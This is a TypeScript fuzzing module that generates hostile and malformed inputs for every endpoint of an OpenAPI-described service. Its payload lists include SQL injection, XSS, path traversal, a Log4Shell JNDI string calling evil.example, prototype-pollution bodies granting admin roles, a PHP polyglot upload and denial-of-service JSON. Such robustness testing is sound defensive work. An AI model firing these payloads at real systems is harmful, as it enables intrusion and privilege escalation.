import fc from 'fast-check';

/** The parts of an OpenAPI 3 document the fuzzer reads. */
export interface OpenApiDocument {
  paths: Record<string, Record<string, OpenApiOperation>>;
}

export interface OpenApiOperation {
  parameters?: { in: 'path' | 'query' | 'header'; name: string; schema?: JsonSchema }[];
  requestBody?: { content: Record<string, { schema?: JsonSchema }> };
  security?: unknown[];
}

export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  nullable?: boolean;
  minimum?: number;
  maximum?: number;
  maxLength?: number;
  maxItems?: number;
}

/** One operation of the document: `/api/events/{eventId}` with its method and schemas. */
export interface Endpoint {
  method: string;
  path: string;
  operation: OpenApiOperation;
}

export function listEndpoints(document: OpenApiDocument): Endpoint[] {
  const endpoints: Endpoint[] = [];
  for (const [path, operations] of Object.entries(document.paths)) {
    for (const [method, operation] of Object.entries(operations)) {
      if (['get', 'post', 'put', 'patch', 'delete'].includes(method)) endpoints.push({ method: method.toUpperCase(), path, operation });
    }
  }
  return endpoints;
}

/** Known-nasty strings: injections, traversal, format confusions, control and odd unicode characters. */
export const NASTY_STRINGS = [
  '',
  ' ',
  "' OR '1'='1",
  '1; drop table users; --',
  "'); select pg_sleep(5); --",
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%00',
  '\u0000',
  '\u0000\u0001\u001f\u007f',
  '\ud800',
  '\udfff\ud800',
  '\u202eevil\u202c',
  '\ufeff',
  '𝕳𝖊𝖑𝖑𝖔 👩‍👩‍👧‍👦🇮🇳',
  'ﷺ'.repeat(50),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e309',
  '99999999999999999999999999999999',
  '2147483648',
  '-2147483649',
  '0x10',
  '1.5',
  'null',
  'true',
  '[]',
  '{}',
  '2026-02-30',
  '9999-99-99',
  '0000-00-00',
  '2026-06-01T25:61:00Z',
  'http://evil.example/',
  '//evil.example',
  '/\\evil.example',
  'https:evil.example',
  'javascript:alert(1)',
  'a'.repeat(5000),
  '9'.repeat(300),
];

const NASTY_NUMBERS = [0, -1, 1, 2, 3, 1.5, -0.5, 2147483647, 2147483648, -2147483649, Number.MAX_SAFE_INTEGER, 2 ** 63, 1e308, -1e308];

export const fuzzString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
  { weight: 1, arbitrary: fc.stringMatching(/^\d{1,12}$/) },
);

const fuzzNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(...NASTY_NUMBERS),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer({ min: 1, max: 50 }),
);

/** Any JSON value, wrongly typed for whatever the schema wanted. */
const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  fuzzString,
  fuzzNumber,
  fc.boolean(),
  fc.constant(null),
  fc.constant([]),
  fc.constant({}),
  fc.jsonValue({ maxDepth: 3 }),
);

/**
 * A value shaped by the schema (right keys, right types) but with edge contents, or, now and then,
 * something of the wrong type altogether: mostly-valid bodies get past validation and reach the service.
 */
export function shapedValue(schema: JsonSchema | undefined, depth = 0): fc.Arbitrary<unknown> {
  if (!schema || depth > 6) return wrongValue;
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives && alternatives.length > 0) return fc.oneof(...alternatives.map((option) => shapedValue(option, depth + 1)));
  if (schema.allOf && schema.allOf.length > 0) return shapedValue(schema.allOf[0], depth + 1);
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  let right: fc.Arbitrary<unknown>;
  if (schema.enum && schema.enum.length > 0) right = fc.constantFrom(...schema.enum);
  else if (type === 'string') right = fuzzString;
  else if (type === 'integer')
    right = fc.oneof(fc.integer({ min: 1, max: 50 }), fc.constantFrom(...NASTY_NUMBERS.filter(Number.isInteger)));
  else if (type === 'number') right = fuzzNumber;
  else if (type === 'boolean') right = fc.boolean();
  else if (type === 'array') right = fc.array(shapedValue(schema.items, depth + 1), { maxLength: 5 });
  else if (type === 'object' || schema.properties) {
    const properties = schema.properties ?? {};
    const record: Record<string, fc.Arbitrary<unknown>> = {};
    for (const [key, child] of Object.entries(properties)) record[key] = shapedValue(child, depth + 1);
    right = fc
      .tuple(
        fc.record(record, { requiredKeys: [] }),
        fc.dictionary(
          fuzzString.filter((key) => key.length < 40),
          wrongValue,
          { maxKeys: 2 },
        ),
        fc.boolean(),
      )
      .map(([known, extra, addExtra]) => (addExtra ? { ...extra, ...known } : known));
  } else right = wrongValue;
  const withNull = schema.nullable ? fc.oneof(right, fc.constant(null)) : right;
  return fc.oneof({ weight: 5, arbitrary: withNull }, { weight: 1, arbitrary: wrongValue });
}

/** A raw body and its content type: shaped, random, deep, huge, malformed, polluted or mislabelled. */
export function fuzzBody(schema: JsonSchema | undefined): fc.Arbitrary<{ payload?: string | Buffer; contentType?: string }> {
  const json = (value: unknown) => ({ payload: JSON.stringify(value) ?? 'null', contentType: 'application/json' });
  return fc.oneof(
    { weight: 6, arbitrary: shapedValue(schema).map(json) },
    { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }).map(json) },
    {
      weight: 2,
      arbitrary: fc.tuple(fc.integer({ min: 20, max: 20_000 }), fc.boolean()).map(([depth, asArray]) => ({
        payload: asArray ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth),
        contentType: 'application/json',
      })),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(1_048_577, 1_200_000).map((size) => ({
        payload: JSON.stringify({ name: 'x'.repeat(size) }),
        contentType: 'application/json',
      })),
    },
    {
      weight: 2,
      arbitrary: fc
        .constantFrom(
          '{"a":1,}',
          '{"a":',
          'nul',
          '\ufeff{"a":1}',
          '{"a":"\\ud800"}',
          '{"a":1e999999}',
          '{"__proto__":{"isAdmin":true,"role":"admin"}}',
          '{"constructor":{"prototype":{"role":"admin"}}}',
          '"just a string"',
          '12345',
          '[]',
          '\u0000',
          '{"phone":"9000000003","phone":"9000000001"}',
        )
        .map((payload) => ({ payload, contentType: 'application/json' })),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(
          fc.constantFrom(
            'text/plain',
            'application/x-www-form-urlencoded',
            'multipart/form-data; boundary=xyz',
            'multipart/form-data',
            'application/xml',
            'application/json; charset=utf-16',
            'application/octet-stream',
            'image/png',
          ),
          fc.oneof(
            fuzzString,
            fc.constant('--xyz\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\nGIF89a<?php\r\n--xyz--'),
          ),
        )
        .map(([contentType, payload]) => ({ payload, contentType })),
    },
    { weight: 1, arbitrary: fc.constant({}) },
  );
}

/** Encodes a path or query value; lone surrogates cannot be UTF-8 encoded, so they become raw bytes. */
export function encodeComponent(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return '%ED%A0%80' + encodeURIComponent(value.replace(/[\ud800-\udfff]/g, ''));
  }
}

/** A path parameter: a real id now and then, otherwise anything. */
export const fuzzPathValue = (realIds: readonly string[]) =>
  fc.oneof(
    { weight: 2, arbitrary: fc.constantFrom(...realIds) },
    { weight: 5, arbitrary: fuzzString.filter((value) => value.length > 0 && value.length < 600) },
    { weight: 2, arbitrary: fuzzNumber.map(String) },
  );

/** Header values must be visible latin-1 to be sent at all; anything else the HTTP layer refuses before us. */
export const fuzzHeaderValue = fc.oneof(
  fc.constantFrom(
    '',
    'a'.repeat(8000),
    "' OR 1=1 --",
    '../../etc/passwd',
    '${jndi:ldap://x}',
    'Bearer',
    'Bearer ',
    'null',
    '%E0%A4%A',
    'token=%E0%A4%A; a=%',
  ),
  fc.string({ maxLength: 60 }).map((value) => value.replace(/[^\x20-\x7e]/g, '')),
);
